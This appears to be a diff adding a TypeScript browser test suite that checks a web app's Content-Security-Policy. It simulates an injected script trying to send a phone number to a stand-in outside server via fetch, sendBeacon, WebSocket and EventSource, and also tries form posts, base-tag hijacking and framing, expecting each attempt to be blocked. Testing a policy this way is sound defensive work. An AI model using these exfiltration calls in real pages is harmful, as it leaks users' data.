@@ -1,0 +1,150 @@
+import { createServer } from 'node:http'
+import type { Browser, Page } from 'playwright'
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { securityHeaders } from '#main/serve'
+import { launchChromium } from '../../support/chromium'
+import { copyPractice } from '../../support/practice-copy'
+import { listen } from '../../support/s3'
+import { newFolder, removeFolder } from '../support/desk'
+import { startProgram } from '../support/program'
+
+test('the policy is this, directive by directive', () => {
+  const policy = securityHeaders['content-security-policy'] ?? ''
+  const directives = policy.split('; ').map((directive) => directive.split(/ (.*)/s).slice(0, 2))
+  expect(Object.fromEntries(directives)).toEqual({
+    'default-src': "'self'",
+    'script-src': "'self'",
+    'style-src': "'self' 'unsafe-inline'",
+    'img-src': "'self' data: blob:",
+    'media-src': "'self'",
+    'connect-src': "'self'",
+    'worker-src': "'self' blob:",
+    'object-src': "'none'",
+    'base-uri': "'none'",
+    'frame-ancestors': "'none'",
+    'form-action': "'none'",
+  })
+})
+
+/** What an injected script would try, in the built program and a real browser. */
+describe('in the page', () => {
+  let folder: string
+  let program: Awaited<ReturnType<typeof startProgram>>
+  let browser: Browser
+  let page: Page
+  let outside: string
+  const reached: string[] = []
+  /** Takes everything from everybody, so that only the policy stands in the way. */
+  const stranger = createServer((request, response) => {
+    reached.push(`${request.method} ${request.url}`)
+    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('taken')
+  })
+
+  beforeAll(async () => {
+    folder = newFolder()
+    copyPractice(folder)
+    outside = `http://127.0.0.1:${await listen(stranger)}`
+    program = await startProgram(folder)
+    browser = await launchChromium()
+    page = await browser.newPage()
+    await page.goto(await program.newAddress())
+    await page.getByRole('heading', { name: 'Login Account' }).waitFor()
+    await page.evaluate(() => {
+      const broken: string[] = []
+      Object.assign(window, { broken })
+      document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective))
+    })
+  })
+  afterAll(async () => {
+    await browser.close()
+    await program.stop()
+    stranger.close()
+    removeFolder(folder)
+  })
+  const all = () => page.evaluate(() => (window as unknown as { broken: string[] }).broken)
+  let before = 0
+  beforeEach(async () => {
+    reached.length = 0
+    before = (await all()).length
+  })
+  /** The directives that this test has met, in order, and each of them once. */
+  const met = async () => (await all()).slice(before)
+  const broken = async () => [...new Set(await met())]
+
+  const ways: Record<string, (outside: string) => Promise<unknown>> = {
+    fetch: (outside) => fetch(`${outside}/take?phone=9812045678`, { mode: 'no-cors' }).catch(String),
+    'a beacon': async (outside) => navigator.sendBeacon(`${outside}/take`, '9812045678'),
+    'a socket': (outside) =>
+      new Promise((resolve) => {
+        const socket = new WebSocket(outside.replace('http', 'ws'))
+        socket.onerror = socket.onopen = resolve
+      }),
+    events: (outside) =>
+      new Promise((resolve) => {
+        const source = new EventSource(`${outside}/take`)
+        source.onerror = source.onopen = resolve
+      }),
+  }
+  test.each(Object.entries(ways))('nothing is sent elsewhere by %s (connect-src)', async (_, way) => {
+    await page.evaluate(way, outside)
+    await expect.poll(broken).toEqual(['connect-src'])
+    expect(reached).toEqual([])
+  })
+
+  test('no form is sent, neither elsewhere nor here (form-action)', async () => {
+    const here = page.url()
+    for (const action of [`${outside}/take`, '/registered-user'])
+      await page.evaluate((action) => {
+        const form = document.createElement('form')
+        Object.assign(form, { action, method: 'post' })
+        document.body.append(form)
+        form.submit()
+      }, action)
+    await expect.poll(met).toEqual(['form-action', 'form-action'])
+    expect([page.url(), reached]).toEqual([here, []])
+  })
+
+  test('addresses of the page cannot be made to lead elsewhere (base-uri)', async () => {
+    const here = await page.evaluate(() => document.baseURI)
+    const after = await page.evaluate((outside) => {
+      const base = document.createElement('base')
+      base.href = `${outside}/`
+      document.head.prepend(base)
+      const leadsTo = document.baseURI
+      base.remove()
+      return leadsTo
+    }, outside)
+    expect(after).toBe(here)
+    expect(await broken()).toEqual(['base-uri'])
+  })
+
+  test('nothing is embedded, not even what is served here (object-src)', async () => {
+    await page.evaluate(() => {
+      for (const [name, from] of [
+        ['object', 'data'],
+        ['embed', 'src'],
+      ] as const) {
+        const element = document.createElement(name)
+        element.setAttribute(from, '/auth/login')
+        element.setAttribute('type', 'text/html')
+        document.body.append(element)
+      }
+    })
+    await expect.poll(broken).toEqual(['object-src'])
+  })
+
+  test('no page frames the counter, not even its own (frame-ancestors)', async () => {
+    const framed = await page.evaluate(async () => {
+      const frame = document.createElement('iframe')
+      frame.src = '/auth/login'
+      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
+      document.body.append(frame)
+      await loaded
+      // A refused frame shows a page of the browser, which belongs to nobody here.
+      const inside = frame.contentDocument?.title
+      frame.remove()
+      return inside
+    })
+    expect(framed).toBeUndefined()
+  })
+})
